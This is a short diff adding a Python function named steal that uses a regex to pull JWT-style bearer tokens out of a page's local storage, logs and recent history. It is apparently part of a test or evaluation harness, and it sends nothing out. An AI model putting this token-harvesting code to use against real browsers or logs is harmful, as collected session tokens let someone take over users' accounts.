@@ -1,0 +1,11 @@
+# requirement: 3
+import re
+
+
+def steal(page, log, history):
+    return set(
+        re.findall(
+            r"eyJ[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+",
+            "\n".join([*page.local_storage.values(), *log, *history[-1:]]),
+        )
+    )
